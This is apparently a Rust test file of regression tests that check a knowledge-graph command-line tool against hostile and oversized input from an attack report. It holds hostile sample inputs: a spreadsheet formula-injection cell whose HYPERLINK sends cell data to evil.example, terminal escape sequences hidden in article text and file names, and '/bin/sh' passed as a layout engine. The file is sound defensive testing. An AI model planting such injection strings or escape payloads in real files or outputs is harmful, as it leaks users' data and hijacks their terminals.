//! Issue 12: hostile and huge input. One regression test per defect of the
//! outside attack report (D1..D26), named after the behaviour it pins, and
//! a scaling harness for the passes that were quadratic.

use super::*;
use std::time::Instant;

/// A graph file written by hand, as another tool or an attacker would.
fn graph_file(dir: &Path, name: &str, entities: serde_json::Value, relations: serde_json::Value) -> PathBuf {
    let file = serde_json::json!({
        "format": "geokg-graph", "version": 1, "documents": [],
        "entities": entities, "relations": relations
    });
    let p = dir.join(name);
    std::fs::write(&p, serde_json::to_vec(&file).unwrap()).unwrap();
    p
}

fn one_statement(s: &str, o: &str, text: &str) -> serde_json::Value {
    serde_json::json!({
        "subject": s, "predicate": "met", "category": "CONSULT", "object": o, "symmetric": false,
        "evidence": [{"doc": "d1", "sentence": 0, "span": [0, 5], "text": text, "date": "2025-06-01",
                      "modality": "asserted", "negated": false, "attribution": null, "rule": "verb-object"}]
    })
}

fn person(id: &str, name: &str) -> serde_json::Value {
    serde_json::json!({"id": id, "name": name, "type": "PERSON", "aliases": []})
}

/// Runs a command with its standard output closed before it writes.
fn with_closed_stdout(cmd: &mut Command) -> Output {
    let mut child = cmd.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    drop(child.stdout.take());
    child.wait_with_output().unwrap()
}

#[test]
fn hostile_d1_neighbors_prints_a_name_longer_than_65535_characters() {
    let tmp = tempfile::tempdir().unwrap();
    let long = format!("A{}", "b".repeat(70_000));
    let g = graph_file(
        tmp.path(),
        "g.json",
        serde_json::json!([person("person:a", "Alice"), person("person:long", &long)]),
        serde_json::json!([one_statement("person:a", "person:long", "Alice met someone.")]),
    );
    let o = run(bin().arg("neighbors").arg(&g).arg("Alice"));
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let text = stdout(&o);
    assert!(text.lines().all(|l| l.chars().count() < 400), "the long name is cut in the table");
    assert!(text.contains('\u{2026}'));
    // The JSON answer keeps the whole name.
    let o = run(bin().arg("neighbors").arg(&g).arg("Alice").args(["--format", "json"]));
    assert!(stdout(&o).contains(&long));
}

#[test]
fn hostile_d2_json_csv_and_mentions_outputs_exit_0_on_a_closed_pipe() {
    let tmp = tempfile::tempdir().unwrap();
    let g = build(tmp.path(), &[fixture("summit.txt"), fixture("news.jsonl")], "g.json");
    let commands: Vec<Vec<&str>> = vec![
        vec!["stats", "--format", "json"],
        vec!["export", "--format", "csv"],
        vec!["export", "--format", "jsonl"],
        vec!["top", "--format", "json"],
    ];
    for args in commands {
        let mut cmd = bin();
        cmd.arg(args[0]).arg(&g).args(&args[1..]);
        let o = with_closed_stdout(&mut cmd);
        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", stderr(&o));
        assert!(stderr(&o).is_empty(), "{args:?}: {}", stderr(&o));
    }
    for args in [vec!["extract"], vec!["extract", "--mentions"]] {
        let o = with_closed_stdout(bin().args(&args).arg(fixture("summit.txt")));
        assert_eq!(o.status.code(), Some(0), "{args:?}: {}", stderr(&o));
        assert!(stderr(&o).is_empty(), "{args:?}: {}", stderr(&o));
    }
}

/// Seconds a command takes.
fn seconds(cmd: &mut Command) -> f64 {
    let t = Instant::now();
    let o = cmd.output().unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    t.elapsed().as_secs_f64()
}

/// The scaling harness: the time of a run on 8n units of input over the
/// time on n. Linear work gives about 8 (less when start-up counts);
/// quadratic work gives about 64. The bound is generous so that a busy
/// machine does not fail it, and tests never assert an absolute time.
fn assert_linear(what: &str, small: f64, large: f64) {
    let ratio = large / small.max(0.02);
    eprintln!("scaling: {what}: {small:.3} s -> {large:.3} s at 8x input (ratio {ratio:.1})");
    assert!(
        ratio < 24.0,
        "{what} grows faster than linearly: {small:.3} s -> {large:.3} s at 8x input"
    );
}

#[test]
fn hostile_d3_build_is_linear_in_statements_of_one_relation() {
    let tmp = tempfile::tempdir().unwrap();
    let corpus = |n: usize| {
        let lines: String = (0..n)
            .map(|i| format!("{{\"id\":\"d{i}\",\"text\":\"Russia attacked Ukraine on Monday, report {i}.\"}}\n"))
            .collect();
        write(tmp.path(), &format!("c{n}.jsonl"), lines.as_bytes())
    };
    let (a, b) = (corpus(2_500), corpus(20_000));
    let small = seconds(bin().arg("build").arg(&a).arg("-o").arg(tmp.path().join("a.json")));
    let large = seconds(bin().arg("build").arg(&b).arg("-o").arg(tmp.path().join("b.json")));
    assert_linear("build of one relation's statements", small, large);
    let g: serde_json::Value = serde_json::from_slice(&std::fs::read(tmp.path().join("b.json")).unwrap()).unwrap();
    assert_eq!(g["relations"][0]["documents"], 20_000, "every statement is counted");
    // One article repeating one statement: the same relation, one document.
    let one = write(tmp.path(), "one.txt", "Russia attacked Ukraine. ".repeat(8_000).as_bytes());
    let small = seconds(bin().arg("build").arg(&one).arg("-o").arg(tmp.path().join("one.json")));
    assert!(small < 20.0, "one 200 KB article of one statement builds in seconds ({small:.1} s)");
}

/// "Xxx Yyy Party (XYP) condemned France." with distinct invented names.
fn party_text(n: usize) -> String {
    let mut seed = 7u64;
    let mut word = || {
        let mut w = String::new();
        for k in 0..6 {
            seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            let c = (b'a' + ((seed >> 33) % 26) as u8) as char;
            w.push(if k == 0 { c.to_ascii_uppercase() } else { c });
        }
        w
    };
    (0..n)
        .map(|_| {
            let (a, b) = (word(), word());
            format!("{a} {b} Party ({}{}P) condemned France. ", &a[..1], &b[..1])
        })
        .collect()
}

#[test]
fn hostile_d4_acronyms_and_party_names_are_linear() {
    let tmp = tempfile::tempdir().unwrap();
    let a = write(tmp.path(), "a.txt", party_text(2_000).as_bytes());
    let b = write(tmp.path(), "b.txt", party_text(16_000).as_bytes());
    let small = seconds(bin().arg("extract").arg(&a).stdout(Stdio::null()));
    let large = seconds(bin().arg("extract").arg(&b).stdout(Stdio::null()));
    assert_linear("acronym and party-name passes", small, large);
}

#[test]
fn hostile_d5_html_with_unclosed_scripts_is_linear() {
    let tmp = tempfile::tempdir().unwrap();
    let page = |n: usize| format!("<html><body><p>Russia attacked Ukraine.</p>{}", "<script>x".repeat(n));
    let a = write(tmp.path(), "a.txt", page(6_000).as_bytes());
    let b = write(tmp.path(), "b.txt", page(48_000).as_bytes());
    let small = seconds(bin().arg("extract").arg(&a).stdout(Stdio::null()).stderr(Stdio::null()));
    let large = seconds(bin().arg("extract").arg(&b).stdout(Stdio::null()).stderr(Stdio::null()));
    assert_linear("HTML blanking", small, large);
}

#[test]
fn hostile_d6_long_strings_are_truncated_in_dot_and_svg() {
    let tmp = tempfile::tempdir().unwrap();
    let blob = "x".repeat(20_000);
    let article = write(
        tmp.path(),
        "a.txt",
        format!("Russia attacked Ukraine near {blob} today.\n").as_bytes(),
    );
    let g = build(tmp.path(), &[article], "g.json");
    let dot = tmp.path().join("g.dot");
    let o = run(bin().arg("render").arg(&g).arg("-o").arg(&dot));
    assert!(o.status.success());
    let text = std::fs::read_to_string(&dot).unwrap();
    assert!(!text.contains(&blob), "the 20 KB token is not copied into the DOT");
    // Every quoted string stays far below Graphviz's 16,384-byte limit.
    assert!(text.split('"').all(|s| s.len() < 4_000));
    if let Some(dot_bin) = has_program("dot") {
        let o = Command::new(dot_bin).arg("-Tsvg").arg(&dot).output().unwrap();
        assert!(o.status.success(), "Graphviz reads the DOT: {}", String::from_utf8_lossy(&o.stderr));
        let svg = tmp.path().join("g.svg");
        let o = run(bin().arg("render").arg(&g).arg("-o").arg(&svg));
        assert!(o.status.success(), "{}", stderr(&o));
    }
    // The graph file keeps the whole sentence.
    assert!(std::fs::read_to_string(&g).unwrap().contains(&blob));
}

#[test]
fn hostile_d7_noncharacters_never_reach_the_svg() {
    let tmp = tempfile::tempdir().unwrap();
    let article = write(tmp.path(), "a.txt", "Russia attacked Ukraine \u{ffff} today \u{fffe}.\n".as_bytes());
    let g = build(tmp.path(), &[article], "g.json");
    for env_path in [None, Some("/nonexistent")] {
        let svg = tmp.path().join("g.svg");
        let mut cmd = bin();
        cmd.arg("render").arg(&g).arg("-o").arg(&svg);
        if let Some(p) = env_path {
            cmd.env("PATH", p);
        }
        assert!(run(&mut cmd).status.success());
        let text = std::fs::read_to_string(&svg).unwrap();
        assert!(!text.contains(['\u{fffe}', '\u{ffff}']));
        let opts = roxmltree::ParsingOptions {
            allow_dtd: true,
            ..Default::default()
        };
        roxmltree::Document::parse_with_options(&text, opts).expect("the SVG is well-formed XML");
    }
}

#[test]
fn hostile_d8_escape_sequences_are_neutralised_in_text_outputs() {
    let tmp = tempfile::tempdir().unwrap();
    let article = write(tmp.path(), "a.txt", b"Russia attacked Ukraine \x1b]0;PWNED\x07\x1b[2J today.\n");
    let g = build(tmp.path(), std::slice::from_ref(&article), "g.json");
    let outputs = [
        run(bin().arg("extract").arg(&article).args(["--format", "text"])),
        run(bin().arg("extract").arg(&article).args(["--format", "tsv"])),
        run(bin().arg("neighbors").arg(&g).arg("Russia")),
        run(bin().arg("stats").arg(&g)),
        run(bin().arg("explain").arg(&article)),
    ];
    for o in &outputs {
        assert!(o.status.success(), "{}", stderr(o));
        let text = stdout(o);
        assert!(!text.contains(['\u{1b}', '\u{7}']), "{text:?}");
    }
    assert!(stdout(&outputs[0]).contains('\u{241b}'), "the escape is shown, not dropped");
}

#[test]
fn hostile_d9_csv_cells_never_start_a_formula() {
    let tmp = tempfile::tempdir().unwrap();
    let article = write(
        tmp.path(),
        "a.txt",
        b"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") Russia attacked Ukraine.\n@SUM(1+1) Russia condemned Poland.\n",
    );
    let g = build(tmp.path(), &[article], "g.json");
    let o = run(bin().arg("export").arg(&g).args(["--format", "csv"]));
    let neo = tmp.path().join("neo");
    assert!(run(bin().arg("export").arg(&g).args(["--format", "neo4j", "-o"]).arg(&neo))
        .status
        .success());
    for text in [stdout(&o), std::fs::read_to_string(neo.join("relations.csv")).unwrap()] {
        let mut rows = csv::Reader::from_reader(text.as_bytes());
        let mut n = 0;
        for r in rows.records() {
            for cell in r.unwrap().iter() {
                assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell:?}");
            }
            n += 1;
        }
        assert!(n >= 1);
        assert!(text.contains("'=HYPERLINK") || text.contains("'@SUM"), "kept, behind an apostrophe");
    }
}

#[test]
fn hostile_d10_an_output_equal_to_an_input_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let corpus = tmp.path().join("c.jsonl");
    std::fs::copy(fixture("news.jsonl"), &corpus).unwrap();
    let before = std::fs::read(&corpus).unwrap();
    let o = run(bin().arg("build").arg(&corpus).arg("-o").arg(&corpus));
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("destroy the input"), "{}", stderr(&o));
    assert_eq!(std::fs::read(&corpus).unwrap(), before, "the corpus is untouched");
    let g = build(tmp.path(), &[fixture("summit.txt")], "g.json");
    let graph = std::fs::read(&g).unwrap();
    let same = tmp.path().join(".").join("g.json");
    for args in [vec!["export", "--format", "csv", "-o"], vec!["render", "-o"]] {
        let o = run(bin().arg(args[0]).arg(&g).args(&args[1..]).arg(&same));
        assert_eq!(o.status.code(), Some(2), "{args:?}");
        assert_eq!(std::fs::read(&g).unwrap(), graph, "{args:?}: the graph is untouched");
    }
}

#[test]
fn hostile_d11_the_neo4j_export_replaces_its_directory_as_a_set() {
    let tmp = tempfile::tempdir().unwrap();
    let small = build(tmp.path(), &[fixture("summit.txt")], "small.json");
    let large = build(tmp.path(), &[fixture("summit.txt"), fixture("news.jsonl")], "large.json");
    let neo = tmp.path().join("neo");
    for g in [&small, &large] {
        assert!(run(bin().arg("export").arg(g).args(["--format", "neo4j", "-o"]).arg(&neo))
            .status
            .success());
    }
    let count = |f: &str| std::fs::read_to_string(neo.join(f)).unwrap().lines().count();
    let o = run(bin().arg("stats").arg(&large).args(["--format", "json"]));
    let stats: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert!(count("relations.csv") > 1 && count("nodes.csv") > 1);
    assert!(
        stats.to_string().contains(&format!("{}", count("nodes.csv") - 1)),
        "nodes.csv is the new graph's"
    );
    let left: Vec<String> = std::fs::read_dir(tmp.path())
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with('.'))
        .collect();
    assert!(left.is_empty(), "no temporaries: {left:?}");
}

#[test]
fn hostile_d12_temporaries_of_killed_runs_are_removed_by_the_next_write() {
    let tmp = tempfile::tempdir().unwrap();
    // A process id above Linux's largest (2^22) belongs to no process.
    let stale = write(tmp.path(), ".g.json.tmp-4194399", b"half a graph");
    build(tmp.path(), &[fixture("summit.txt")], "g.json");
    assert!(!stale.exists());
}

#[test]
fn hostile_d13_in_place_writes_keep_the_mode_and_write_through_links() {
    use std::os::unix::fs::PermissionsExt;
    let tmp = tempfile::tempdir().unwrap();
    let g = build(tmp.path(), &[fixture("summit.txt")], "g.json");
    std::fs::set_permissions(&g, std::fs::Permissions::from_mode(0o600)).unwrap();
    assert!(run(bin().arg("merge").arg(&g).arg("-o").arg(&g)).status.success());
    assert_eq!(std::fs::metadata(&g).unwrap().permissions().mode() & 0o777, 0o600);
    let link = tmp.path().join("link.json");
    std::os::unix::fs::symlink("g.json", &link).unwrap();
    let other = build(tmp.path(), &[fixture("news.jsonl")], "other.json");
    assert!(run(bin().arg("merge").arg(&link).arg(&other).arg("-o").arg(&link)).status.success());
    assert!(
        std::fs::symlink_metadata(&link).unwrap().file_type().is_symlink(),
        "the link stays a link"
    );
    assert_eq!(std::fs::read(&link).unwrap(), std::fs::read(&g).unwrap());
    std::fs::set_permissions(&g, std::fs::Permissions::from_mode(0o444)).unwrap();
    let before = std::fs::read(&g).unwrap();
    let o = run(bin().arg("merge").arg(&other).arg("-o").arg(&g));
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("read-only"), "{}", stderr(&o));
    assert_eq!(std::fs::read(&g).unwrap(), before);
}

#[test]
fn hostile_d14_symlink_loops_in_a_corpus_are_read_once() {
    let tmp = tempfile::tempdir().unwrap();
    let c = tmp.path().join("c");
    std::fs::create_dir(&c).unwrap();
    std::fs::copy(fixture("summit.txt"), c.join("summit.txt")).unwrap();
    std::os::unix::fs::symlink(".", c.join("self")).unwrap();
    std::os::unix::fs::symlink("..", c.join("up")).unwrap();
    let out = tmp.path().join("w.json");
    let o = run(bin().arg("build").arg(&c).arg("-o").arg(&out));
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("1 documents") || stderr(&o).contains("1 document"),
        "{}",
        stderr(&o)
    );
    assert!(stderr(&o).contains("already read"), "the loop is reported: {}", stderr(&o));
}

#[test]
fn hostile_d15_a_tsv_dictionary_with_brackets_in_a_name_stays_tsv() {
    let tmp = tempfile::tempdir().unwrap();
    let d = write(
        tmp.path(),
        "d.tsv",
        b"Acme Widgets\tORGANIZATION\nBeta [Gamma] Holdings\tORGANIZATION\n",
    );
    let o = run(bin().args(["dict", "check"]).arg(&d));
    assert!(
        stdout(&o).to_lowercase().contains("tsv") || stderr(&o).to_lowercase().contains("tsv"),
        "{}{}",
        stdout(&o),
        stderr(&o)
    );
    let t = write(tmp.path(), "t.txt", b"Acme Widgets attacked Ukraine.\n");
    let o = run(bin().arg("extract").arg(&t).arg("--dict").arg(&d));
    assert!(has_triple(&jsonl(&o), "Acme Widgets", "ASSAULT", "Ukraine"), "{}", stdout(&o));
}

#[test]
fn hostile_d16_a_lexicon_path_that_gives_no_tables_is_an_error() {
    let tmp = tempfile::tempdir().unwrap();
    let t = write(tmp.path(), "t.txt", b"Russia attacked Ukraine.\n");
    let empty = tmp.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    let misnamed = tmp.path().join("misnamed");
    std::fs::create_dir(&misnamed).unwrap();
    write(&misnamed, "verb.tsv", b"");
    for lexicon in [tmp.path().join("no/such/dir"), t.clone(), empty, misnamed] {
        let o = run(bin().arg("extract").arg(&t).arg("--lexicon").arg(&lexicon));
        assert_eq!(o.status.code(), Some(2), "{}", lexicon.display());
        assert!(
            stderr(&o).contains(&*lexicon.to_string_lossy()) || stderr(&o).contains("lexicon"),
            "{}",
            stderr(&o)
        );
    }
}

#[test]
fn hostile_d17_the_engine_must_be_a_graphviz_layout() {
    let tmp = tempfile::tempdir().unwrap();
    let g = build(tmp.path(), &[fixture("summit.txt")], "g.json");
    for engine in ["perl", "/bin/sh", "sh", "../dot"] {
        let svg = tmp.path().join("x.svg");
        let o = run(bin().arg("render").arg(&g).arg("-o").arg(&svg).args(["--engine", engine]));
        assert_eq!(o.status.code(), Some(2), "{engine}");
        assert!(stderr(&o).contains("sfdp"), "the message lists the engines: {}", stderr(&o));
        assert!(!svg.exists());
    }
}

#[test]
fn hostile_d18_the_thread_count_is_bounded() {
    let o = run(bin().arg("extract").arg(fixture("summit.txt")).args(["--jobs", "100000"]));
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("256"), "{}", stderr(&o));
}

#[test]
fn hostile_d19_impossible_and_trailing_dates_are_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let g = build(tmp.path(), &[fixture("summit.txt")], "g.json");
    for bad in ["2025-02-31", "2025-02-07xyz", "2025-0612", "2023-02-29", "+202-01-01"] {
        let o = run(bin().arg("stats").arg(&g).args(["--since", bad]));
        assert_eq!(o.status.code(), Some(2), "{bad}");
    }
    for good in ["2024-02-29", "2025-06", "2025"] {
        assert!(run(bin().arg("stats").arg(&g).args(["--since", good])).status.success(), "{good}");
    }
}

#[test]
fn hostile_d20_integer_ids_beyond_64_bits_stay_distinct() {
    let tmp = tempfile::tempdir().unwrap();
    let c = write(
        tmp.path(),
        "b.jsonl",
        b"{\"id\":12345678901234567890123,\"text\":\"Russia met Poland.\"}\n{\"id\":12345678901234567890124,\"text\":\"France met Spain.\"}\n",
    );
    let o = run(bin().arg("extract").arg(&c));
    assert!(!stderr(&o).contains("duplicate"), "{}", stderr(&o));
    let docs: std::collections::BTreeSet<String> = jsonl(&o)
        .iter()
        .map(|t| t["evidence"]["doc"].as_str().unwrap().to_string())
        .collect();
    assert!(
        docs.contains("12345678901234567890123") && docs.contains("12345678901234567890124"),
        "{docs:?}"
    );
}

#[test]
fn hostile_d21_huge_and_endless_inputs_fail_fast() {
    let tmp = tempfile::tempdir().unwrap();
    // A 2 GB sparse file as a graph: refused at its first byte.
    let sparse = tmp.path().join("z.json");
    std::fs::File::create(&sparse).unwrap().set_len(2 << 30).unwrap();
    let o = run(bin().arg("stats").arg(&sparse));
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("z.json"), "{}", stderr(&o));
    // An endless input: reading stops at the document limit.
    let o = run(bin()
        .args(["extract", "-", "--max-document-size", "1M"])
        .stdin(std::fs::File::open("/dev/zero").unwrap()));
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("1 MB"), "{}", stderr(&o));
    let o = run(bin().args(["stats", "/dev/zero"]));
    assert_eq!(o.status.code(), Some(2));
    // A JSONL line over the limit is skipped with a warning; the rest is read.
    let mut corpus = format!("{{\"id\":\"big\",\"text\":\"{}\"}}\n", "Russia attacked Ukraine. ".repeat(100));
    corpus.push_str("{\"id\":\"small\",\"text\":\"France met Spain.\"}\n");
    let c = write(tmp.path(), "c.jsonl", corpus.as_bytes());
    let o = run(bin().arg("extract").arg(&c).args(["--max-document-size", "1K"]));
    assert!(o.status.success());
    assert!(stderr(&o).contains("c.jsonl:1") && stderr(&o).contains("limit"), "{}", stderr(&o));
    assert!(has_triple(&jsonl(&o), "France", "CONSULT", "Spain"));
}

#[test]
fn hostile_d22_an_io_error_says_its_cause_once() {
    let o = run(bin().args(["stats", "/no/such.json"]));
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(stderr(&o).matches("No such file").count(), 1, "{}", stderr(&o));
}

#[test]
fn hostile_d23_merging_a_foreign_file_with_itself_changes_nothing() {
    let tmp = tempfile::tempdir().unwrap();
    let a = graph_file(
        tmp.path(),
        "a.json",
        serde_json::json!([{"id": "person:x", "name": "X", "type": "PERSON", "aliases": ["Xavier Long"]}]),
        serde_json::json!([]),
    );
    let (aa, a1) = (tmp.path().join("aa.json"), tmp.path().join("a1.json"));
    assert!(run(bin().arg("merge").arg(&a).arg(&a).arg("-o").arg(&aa)).status.success());
    assert!(run(bin().arg("merge").arg(&a).arg("-o").arg(&a1)).status.success());
    assert_eq!(std::fs::read(&aa).unwrap(), std::fs::read(&a1).unwrap());
}

#[test]
fn hostile_d24_the_first_ctrl_c_stops_a_merge() {
    let tmp = tempfile::tempdir().unwrap();
    // A FIFO with no writer blocks the merge in its first read, so the
    // interrupt lands while it runs, whatever the machine's speed.
    let fifo = tmp.path().join("fifo.json");
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    let out = tmp.path().join("out.json");
    let child = bin()
        .arg("merge")
        .arg(&fifo)
        .arg("-o")
        .arg(&out)
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(std::time::Duration::from_millis(400));
    assert!(Command::new("kill")
        .args(["-INT", &child.id().to_string()])
        .status()
        .unwrap()
        .success());
    let o = child.wait_with_output().unwrap();
    assert_eq!(o.status.code(), Some(130), "{}", stderr(&o));
    assert!(!out.exists());
}

#[test]
fn hostile_d25_graphml_ids_differing_in_forbidden_characters_stay_distinct() {
    let tmp = tempfile::tempdir().unwrap();
    let g = graph_file(
        tmp.path(),
        "g.json",
        serde_json::json!([person("person:x\u{1}", "X one"), person("person:x\u{2}", "X two")]),
        serde_json::json!([one_statement("person:x\u{1}", "person:x\u{2}", "X one met X two.")]),
    );
    let o = run(bin().arg("export").arg(&g).args(["--format", "graphml"]));
    let xml = stdout(&o);
    let doc = roxmltree::Document::parse(&xml).unwrap();
    let ids: std::collections::BTreeSet<&str> = doc
        .descendants()
        .filter(|n| n.has_tag_name("node"))
        .filter_map(|n| n.attribute("id"))
        .collect();
    assert_eq!(ids.len(), 2, "{ids:?}");
    let edge = doc.descendants().find(|n| n.has_tag_name("edge")).unwrap();
    assert_ne!(edge.attribute("source"), edge.attribute("target"));
    assert!(ids.contains(edge.attribute("source").unwrap()) && ids.contains(edge.attribute("target").unwrap()));
}

#[test]
fn hostile_d26_output_names_up_to_the_file_system_limit_work() {
    let tmp = tempfile::tempdir().unwrap();
    let g = build(tmp.path(), &[fixture("summit.txt")], "g.json");
    let long = tmp.path().join(format!("{}.json", "a".repeat(245)));
    let o = run(bin().arg("merge").arg(&g).arg("-o").arg(&long));
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(std::fs::read(&long).unwrap(), std::fs::read(&g).unwrap());
}

#[test]
fn hostile_scaling_extract_and_render_are_linear() {
    let tmp = tempfile::tempdir().unwrap();
    // One long article of varied statements: coreference, dates and the
    // grammar all see every sentence of one document.
    let sentences = [
        "Russia attacked Ukraine on Monday.",
        "The country also threatened Poland, officials said.",
        "President Alexander Lukashenko met Keith Kellogg in Minsk.",
        "He said Belarus would not deploy troops.",
        "The European Union imposed sanctions on Iran in March.",
    ];
    let article = |n: usize| (0..n).map(|i| sentences[i % sentences.len()]).collect::<Vec<_>>().join(" ");
    let a = write(tmp.path(), "a.txt", article(1_000).as_bytes());
    let b = write(tmp.path(), "b.txt", article(8_000).as_bytes());
    let small = seconds(bin().arg("extract").arg(&a).stdout(Stdio::null()));
    let large = seconds(bin().arg("extract").arg(&b).stdout(Stdio::null()));
    assert_linear("extraction of one long article", small, large);
    // DOT output of graphs with n and 8n relations (our own code; layout
    // engines are Graphviz's and not linear).
    let graph = |n: usize| {
        let entities: Vec<serde_json::Value> = (0..=n).map(|i| person(&format!("person:p{i}"), &format!("Person {i}"))).collect();
        let relations: Vec<serde_json::Value> = (0..n)
            .map(|i| {
                one_statement(
                    &format!("person:p{i}"),
                    &format!("person:p{}", i + 1),
                    &format!("Person {i} met Person {}.", i + 1),
                )
            })
            .collect();
        graph_file(
            tmp.path(),
            &format!("g{n}.json"),
            serde_json::json!(entities),
            serde_json::json!(relations),
        )
    };
    let (ga, gb) = (graph(2_000), graph(16_000));
    let small = seconds(bin().arg("render").arg(&ga).arg("-o").arg(tmp.path().join("a.dot")));
    let large = seconds(bin().arg("render").arg(&gb).arg("-o").arg(tmp.path().join("b.dot")));
    assert_linear("render to DOT", small, large);
}

#[test]
fn hostile_n1_the_neo4j_export_keeps_other_files_in_its_directory() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("work");
    std::fs::create_dir(&dir).unwrap();
    let g = build(&dir, &[fixture("summit.txt")], "g.json");
    std::fs::write(dir.join("keep.txt"), "precious").unwrap();
    let o = run(bin().arg("export").arg(&g).args(["--format", "neo4j", "-o"]).arg(&dir));
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(std::fs::read_to_string(dir.join("keep.txt")).unwrap(), "precious");
    assert!(g.exists(), "the input graph is still there");
    for f in ["nodes.csv", "relations.csv", "import.cypher"] {
        assert!(dir.join(f).exists(), "{f}");
    }
}

#[test]
fn hostile_d10_files_inside_input_directories_and_dictionaries_are_inputs_too() {
    let tmp = tempfile::tempdir().unwrap();
    let corpus = tmp.path().join("corp");
    std::fs::create_dir(&corpus).unwrap();
    let article = corpus.join("x.txt");
    std::fs::copy(fixture("summit.txt"), &article).unwrap();
    let before = std::fs::read(&article).unwrap();
    let o = run(bin().arg("build").arg(&corpus).arg("-o").arg(&article));
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(std::fs::read(&article).unwrap(), before);
    let dict = write(tmp.path(), "d.tsv", b"Acme Widgets\tORGANIZATION\n");
    let o = run(bin()
        .arg("build")
        .arg(fixture("summit.txt"))
        .arg("--dict")
        .arg(&dict)
        .arg("-o")
        .arg(&dict));
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(std::fs::read(&dict).unwrap(), b"Acme Widgets\tORGANIZATION\n");
}

#[test]
fn hostile_d19_month_and_year_bounds_cover_their_whole_period() {
    let tmp = tempfile::tempdir().unwrap();
    let article = write(
        tmp.path(),
        "a.jsonl",
        b"{\"id\":\"a\",\"date\":\"2025-06-15\",\"text\":\"Russia attacked Ukraine.\"}\n",
    );
    let g = build(tmp.path(), &[article], "g.json");
    for (flag, value) in [
        ("--until", "2025"),
        ("--until", "2025-06"),
        ("--since", "2025"),
        ("--since", "2025-06"),
    ] {
        let o = run(bin().arg("neighbors").arg(&g).arg("Russia").args([flag, value]));
        assert_eq!(o.status.code(), Some(0), "{flag} {value} keeps 2025-06-15: {}", stdout(&o));
    }
    let o = run(bin().arg("neighbors").arg(&g).arg("Russia").args(["--until", "2025-05"]));
    assert_eq!(o.status.code(), Some(1));
}

#[test]
fn hostile_d21_a_graph_file_that_turns_into_zeros_is_refused_where_they_start() {
    let tmp = tempfile::tempdir().unwrap();
    let p = tmp.path().join("zz.json");
    std::fs::write(&p, b"{\"format\":\"geokg-graph\",\"version\":1,\"documents\":[").unwrap();
    std::fs::OpenOptions::new().write(true).open(&p).unwrap().set_len(2 << 30).unwrap();
    let o = run(bin().arg("stats").arg(&p));
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("NUL byte at offset 49"), "{}", stderr(&o));
}

#[test]
fn hostile_d8_warnings_and_errors_neutralise_escapes_in_file_names() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("c");
    std::fs::create_dir(&dir).unwrap();
    std::fs::write(dir.join("bin\u{1b}]0;PWNED\u{7}.txt"), b"abc\0def").unwrap();
    let o = run(bin().arg("build").arg(&dir).arg("-o").arg(tmp.path().join("g.json")));
    assert!(stderr(&o).contains("binary file skipped"), "{}", stderr(&o));
    assert!(!stderr(&o).contains(['\u{1b}', '\u{7}']), "{:?}", stderr(&o));
    let o = run(bin().arg("stats").arg("/no/such\u{1b}]0;T\u{7}.json"));
    assert_eq!(o.status.code(), Some(2));
    assert!(!stderr(&o).contains(['\u{1b}', '\u{7}']), "{:?}", stderr(&o));
}
